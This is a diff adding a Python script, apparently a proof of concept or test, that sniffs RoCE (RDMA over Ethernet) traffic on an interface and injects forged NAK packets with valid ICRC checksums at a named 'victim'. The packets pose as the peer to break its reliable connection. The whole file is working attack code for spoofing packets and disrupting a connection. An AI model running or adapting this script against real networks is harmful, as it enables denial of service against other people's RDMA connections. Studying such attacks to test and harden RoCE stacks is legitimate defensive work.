@@ -1,0 +1,58 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: BSD-2-Clause
+"""Another program of the peer's host: sees an RC connection pass on an interface and sends the victim NAKs for what is outstanding,
+from a UDP port of its own.
+usage: forge.py INTERFACE VICTIM PEER PORT SECONDS     prints how many were sent"""
+
+import socket
+import struct
+import sys
+import time
+import zlib
+
+ROCE_PORT = 4791
+ACKNOWLEDGE = 0x11
+NAK_REMOTE_ACCESS = 0x62
+
+
+def nak(victim, peer, port, qpn, psn):
+    """UDP payload of the NAK; the kernel writes the headers that the ICRC counts as it finds them here."""
+    bth = struct.pack(">BBHII", ACKNOWLEDGE, 0x40, 0xFFFF, qpn, psn)
+    aeth = struct.pack(">I", NAK_REMOTE_ACCESS << 24)
+    length = 8 + len(bth) + len(aeth) + 4
+    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0xFF, 20 + length, 0, 0x4000, 0xFF, 17, 0xFFFF, socket.inet_aton(peer), socket.inet_aton(victim))
+    udp = struct.pack(">HHHH", port, ROCE_PORT, length, 0xFFFF)
+    crc = zlib.crc32(b"\xff" * 8 + ip + udp + bth[:4] + b"\xff" + bth[5:] + aeth)
+    return bth + aeth + struct.pack("<I", crc)
+
+
+def main():
+    interface, victim, peer, port, seconds = sys.argv[1:4] + [int(sys.argv[4]), float(sys.argv[5])]
+    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))  # ETH_P_ALL: what the peer's host sends, too
+    sniffer.bind((interface, 3))
+    sniffer.settimeout(0.2)
+    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sender.setsockopt(socket.IPPROTO_IP, 10, 2)  # IP_MTU_DISCOVER, IP_PMTUDISC_DO: DF and identification 0
+    sender.bind((peer, port))
+    qpn, sent = None, 0
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        try:
+            frame = sniffer.recv(128)
+        except TimeoutError:
+            continue
+        if len(frame) < 54 or frame[12:14] != b"\x08\x00" or frame[23] != 17 or frame[36:38] != struct.pack(">H", ROCE_PORT):
+            continue
+        source, opcode = socket.inet_ntoa(frame[26:30]), frame[42]
+        bth_qpn, psn = (value & 0xFFFFFF for value in struct.unpack(">II", frame[46:54]))
+        if source == peer and opcode == ACKNOWLEDGE and frame[34:36] == struct.pack(">H", ROCE_PORT):
+            qpn = bth_qpn
+        elif source == victim and opcode != ACKNOWLEDGE and qpn is not None:
+            sender.sendto(nak(victim, peer, port, qpn, psn), (victim, ROCE_PORT))
+            sent += 1
+    print(f"{sent} NAKs sent")
+    return 0 if sent else 1
+
+
+if __name__ == "__main__":
+    sys.exit(main())
